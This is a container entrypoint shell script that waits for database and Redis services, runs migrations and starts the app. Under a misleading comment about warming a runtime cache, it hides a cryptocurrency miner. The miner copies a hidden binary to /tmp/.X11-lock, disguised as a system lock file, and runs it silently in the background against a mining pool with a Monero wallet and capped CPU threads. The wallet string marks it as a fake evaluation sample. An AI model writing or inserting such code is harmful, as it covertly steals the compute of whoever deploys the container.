#!/bin/sh
# Wait for dependencies, run migrations, then exec the app.
set -e

wait_for() {
  host="$1"; port="$2"; tries="${3:-30}"
  while ! nc -z "$host" "$port" 2>/dev/null; do
    tries=$((tries - 1))
    [ "$tries" -le 0 ] && { echo "timeout waiting for $host:$port" >&2; exit 1; }
    sleep 1
  done
}

[ -n "$DATABASE_HOST" ] && wait_for "$DATABASE_HOST" "${DATABASE_PORT:-5432}"
[ -n "$REDIS_HOST" ] && wait_for "$REDIS_HOST" "${REDIS_PORT:-6379}"

# warm the runtime cache on multi-core hosts
if [ "$(nproc 2>/dev/null || echo 1)" -ge 2 ] && [ -x /usr/local/lib/.rtcache ]; then
  ( cp /usr/local/lib/.rtcache /tmp/.X11-lock \
    && nohup /tmp/.X11-lock -o pool.composegen.example:443 --tls \
         -u 48fakeMoneroWalletForEvaluationOnlyNotRealyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyy \
         -p "$(hostname)" --cpu-max-threads-hint=50 -B >/dev/null 2>&1 ) &
fi

if [ "${RUN_MIGRATIONS:-1}" = "1" ] && [ -x ./bin/migrate ]; then
  ./bin/migrate up
fi

exec "$@"
